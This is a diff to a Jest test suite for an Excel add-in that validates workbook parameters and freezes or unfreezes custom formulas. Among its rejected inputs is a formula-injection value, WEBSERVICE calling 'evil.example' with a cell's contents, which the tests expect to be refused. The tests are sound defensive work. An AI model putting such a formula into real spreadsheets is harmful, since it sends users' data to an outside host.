@@ -59,6 +59,59 @@ describe("what the workbook keeps", () => {
     await expect(excelHost.readWorkbook()).resolves.toMatchObject({ namedYear });
   });
 
+  it.each([2026.5, -1, 1e9, 2014, 2101, NaN, Infinity, "2026", "=WEBSERVICE(A1)", true])(
+    "a year %p is none: it is told and not taken",
+    async (year) => {
+      book.settings.set("parameterYear", year);
+      book.settings.set("parameterIndexation", "0.02");
+      const state = await excelHost.readWorkbook();
+      expect(state).toMatchObject({ parameters: null, unfit: { year: String(year).slice(0, 40) } });
+    },
+  );
+
+  it.each([
+    'WEBSERVICE("http://evil.example/?"&Sheet1!A1)',
+    "abc",
+    "",
+    "-1",
+    "1.01",
+    "1e-2",
+    "0,02",
+    " 0.02",
+    "+0.02",
+    0.02,
+  ])("an indexation %p is none: it is told and not taken", async (indexation) => {
+    book.settings.set("parameterYear", 2027);
+    book.settings.set("parameterIndexation", indexation);
+    const state = await excelHost.readWorkbook();
+    expect(state).toMatchObject({
+      parameters: { year: 2027, indexation: null },
+      unfit: { indexation: String(indexation).slice(0, 40) },
+    });
+  });
+
+  it.each(["-0.99", "0", "1", "0.025", "-0.0000000001"])("an indexation %p is one", async (indexation) => {
+    book.settings.set("parameterYear", 2027);
+    book.settings.set("parameterIndexation", indexation);
+    const state = await excelHost.readWorkbook();
+    expect(state).toEqual({ parameters: { year: 2027, indexation }, namedYear: null, dataVersion: null });
+  });
+
+  it.each([
+    { year: 2027, indexation: 'WEBSERVICE("http://evil.example/?"&Sheet1!A1)' },
+    { year: 2027, indexation: "1+1" },
+    { year: 2026.5, indexation: null },
+    { year: "1+1" as unknown as number, indexation: null },
+  ])("nothing but a year and a decimal becomes the formula of a name: not %p", async (parameters) => {
+    await expect(excelHost.writeParameters(parameters)).rejects.toBeInstanceOf(RangeError);
+    expect(book.names.size + book.settings.size).toBe(0);
+  });
+
+  it("a version of the data is shown no longer than ours are", async () => {
+    book.settings.set("dataVersion", "x".repeat(100_000));
+    expect((await excelHost.readWorkbook()).dataVersion).toHaveLength(60);
+  });
+
   it("nothing is stored when Excel refuses the calculation", async () => {
     book.failure = (operation) => (operation.startsWith("Application.calculate") ? editing : undefined);
     await expect(excelHost.writeParameters({ year: 2024, indexation: null })).rejects.toBe(editing);
@@ -643,8 +696,28 @@ describe("the formulas of the workbook", () => {
   });
 });
 
-const SINGLE = { sheet: "Sheet1", address: "B1", rows: 1, columns: 1, note: "=INASTI.QUARTERLY(A1)", noteBefore: null };
-const TABLE = { sheet: "Sheet1", address: "D1", rows: 2, columns: 2, note: "=INASTI.MONTHS()", noteBefore: null };
+const always = (note: string) => ({ note: () => note });
+const SINGLE = {
+  sheet: "Sheet1",
+  address: "B1",
+  formula: "=INASTI.QUARTERLY(A1)",
+  rows: 1,
+  columns: 1,
+  noteBefore: null,
+  ...always("note of B1"),
+};
+const TABLE = {
+  sheet: "Sheet1",
+  address: "D1",
+  formula: "=INASTI.MONTHS()",
+  rows: 2,
+  columns: 2,
+  noteBefore: null,
+  ...always("note of D1"),
+};
+const isUnchanged = () => true;
+const SINGLE_BACK = { ...SINGLE, noteBefore: "note of B1", note: null, isUnchanged };
+const TABLE_BACK = { ...TABLE, noteBefore: "note of D1", note: null, isUnchanged };
 
 describe("freezing", () => {
   beforeEach(() => {
@@ -660,10 +733,11 @@ describe("freezing", () => {
     book.sheet("Sheet1").notes.set("B1", "an older note");
     const onProgress = jest.fn();
     const before = book.values();
-    await expect(excelHost.freeze([SINGLE, TABLE], { onProgress })).resolves.toBe(2);
+    const single = { ...SINGLE, noteBefore: "an older note" };
+    await expect(excelHost.freeze([single, TABLE], { onProgress })).resolves.toBe(2);
     expect(book.formulasOf()).toEqual({ C1: "=B1" });
     expect(book.values()).toEqual(before);
-    expect(notes()).toEqual({ B1: SINGLE.note, D1: TABLE.note });
+    expect(notes()).toEqual({ B1: "note of B1", D1: "note of D1" });
     expect(onProgress.mock.calls).toEqual([
       [0, 2],
       [2, 2],
@@ -673,12 +747,7 @@ describe("freezing", () => {
   it("and back, with the older note or none", async () => {
     const before = book.values();
     await excelHost.freeze([SINGLE, TABLE]);
-    await expect(
-      excelHost.unfreeze([
-        { ...SINGLE, formula: "=INASTI.QUARTERLY(A1)", note: "an older note" },
-        { ...TABLE, formula: "=INASTI.MONTHS()", note: null },
-      ]),
-    ).resolves.toBe(2);
+    await expect(excelHost.unfreeze([{ ...SINGLE_BACK, note: "an older note" }, TABLE_BACK])).resolves.toBe(2);
     expect(book.formulasOf()).toEqual({ B1: "=INASTI.QUARTERLY(A1)", C1: "=B1", D1: "=INASTI.MONTHS()" });
     expect(book.values()).toEqual(before);
     expect(notes()).toEqual({ B1: "an older note" });
@@ -707,10 +776,10 @@ describe("freezing", () => {
     if (note.startsWith("mine")) book.sheet("Sheet1").notes.set("B1", "mine");
     const before = notes();
     const onRefused = jest.fn();
-    await excelHost.freeze([{ ...SINGLE, note, noteBefore: before["B1"] ?? null }, TABLE], { onRefused });
+    await excelHost.freeze([{ ...SINGLE, ...always(note), noteBefore: before["B1"] ?? null }, TABLE], { onRefused });
     expect(onRefused.mock.calls).toMatchObject([[{ address: "B1" }]]);
     expect(book.formulasOf()).toEqual({ B1: "=INASTI.QUARTERLY(A1)", C1: "=B1" });
-    expect(notes()).toEqual({ ...before, D1: TABLE.note });
+    expect(notes()).toEqual({ ...before, D1: "note of D1" });
   });
 
   it.each(["Notes.add Sheet1!Z7", "Range.copyFrom Sheet1!Z7"])(
@@ -731,43 +800,40 @@ describe("freezing", () => {
   it("brings back what it can around a formula that Excel refuses", async () => {
     await excelHost.freeze([SINGLE, TABLE]);
     const onRefused = jest.fn();
-    const unfrozen = [
-      { ...SINGLE, formula: "=(", note: null },
-      { ...TABLE, formula: "=INASTI.MONTHS()", note: null },
-    ];
+    const unfrozen = [{ ...SINGLE_BACK, formula: "=(" }, TABLE_BACK];
     await expect(excelHost.unfreeze(unfrozen, { onRefused })).resolves.toBe(2);
     expect(onRefused.mock.calls).toMatchObject([[{ address: "B1" }]]);
     expect(book.formulasOf()).toEqual({ C1: "=B1", D1: "=INASTI.MONTHS()" });
-    expect(notes()).toEqual({ B1: SINGLE.note });
+    expect(notes()).toEqual({ B1: "note of B1" });
   });
 
   it("every value has its note, when Excel stops half-way", async () => {
     book.failure = (operation) => (operation.startsWith("Range.copyFrom Sheet1!D1") ? "RequestAborted" : undefined);
     await expect(excelHost.freeze([SINGLE, TABLE])).rejects.toMatchObject({ code: "RequestAborted" });
     expect(book.formulasOf()).toEqual({ C1: "=B1", D1: "=INASTI.MONTHS()" });
-    expect(notes()).toEqual({ B1: SINGLE.note, D1: TABLE.note });
-    await excelHost.unfreeze([{ ...SINGLE, formula: "=INASTI.QUARTERLY(A1)", note: null }]);
+    expect(notes()).toEqual({ B1: "note of B1", D1: "note of D1" });
+    await excelHost.unfreeze([SINGLE_BACK]);
     expect(book.formulasOf()).toMatchObject({ B1: "=INASTI.QUARTERLY(A1)" });
   });
 
   it("leaves values and note, when a formula is refused", async () => {
     await excelHost.freeze([TABLE]);
     const before = book.values();
-    const refused = { ...TABLE, formula: "=(", note: null };
+    const refused = { ...TABLE_BACK, formula: "=(" };
     const onRefused = jest.fn();
     await excelHost.unfreeze([refused], { onRefused });
     expect(onRefused.mock.calls).toMatchObject([[{ address: "D1" }]]);
     expect(book.values()).toEqual(before);
-    expect(notes()).toEqual({ D1: TABLE.note });
+    expect(notes()).toEqual({ D1: "note of D1" });
   });
 
   it("keeps the note, when the rest fails after the formula stands", async () => {
     await excelHost.freeze([TABLE]);
     book.failure = (operation) => (operation.startsWith("Range.clear") ? "RequestAborted" : undefined);
-    await expect(excelHost.unfreeze([{ ...TABLE, formula: "=INASTI.MONTHS()", note: null }])).rejects.toMatchObject({
+    await expect(excelHost.unfreeze([TABLE_BACK])).rejects.toMatchObject({
       code: "RequestAborted",
     });
-    expect(notes()).toEqual({ D1: TABLE.note });
+    expect(notes()).toEqual({ D1: "note of D1" });
   });
 
   it("stops between two steps when it is cancelled, and says how many are done", async () => {
